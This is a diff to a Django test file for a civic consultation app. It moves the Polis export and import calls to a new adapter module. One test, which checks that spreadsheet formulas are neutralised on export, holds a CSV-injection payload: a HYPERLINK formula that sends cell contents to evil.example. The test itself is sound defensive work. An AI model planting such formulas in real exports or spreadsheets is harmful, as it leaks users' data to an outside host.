@@ -12,7 +12,7 @@ from collections.abc import Callable
 from django.test import Client
 from django.urls import reverse
 
-from changemaker.consultations import actions
+from changemaker.consultations import actions, adapter
 from changemaker.consultations.models import Consultation, Statement
 from changemaker.core.models import AuditEvent, Council, Role, User
 
@@ -84,7 +84,7 @@ def test_staff_export_keeps_everything_and_is_audited(
     assert "07700" not in str(event.detail)
     resident = make_user(Role.RESIDENT)
     try:
-        actions.export_polis(c, by=resident)
+        adapter.export_polis(c, by=resident)
     except actions.ConsultationError:
         pass
     else:
@@ -160,7 +160,7 @@ def test_formula_texts_are_neutralised_and_round_trip(
         "-3",
     ]
     c = make_consultation(seeds=texts)
-    body = actions.export_polis(c)
+    body = adapter.export_polis(c)
     bodies = [row["comment-body"] for row in _unzip(body)["comments.csv"]]
     assert bodies == [
         '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
@@ -173,5 +173,5 @@ def test_formula_texts_are_neutralised_and_round_trip(
     ]
     with zipfile.ZipFile(io.BytesIO(body)) as archive:
         files = {name: archive.read(name) for name in archive.namelist()}
-    copy = actions.import_polis(council, files, slug="copy", question="Copy")
+    copy = adapter.import_polis(council, files, slug="copy", question="Copy")
     assert [s.text for s in copy.statements.order_by("number")] == texts
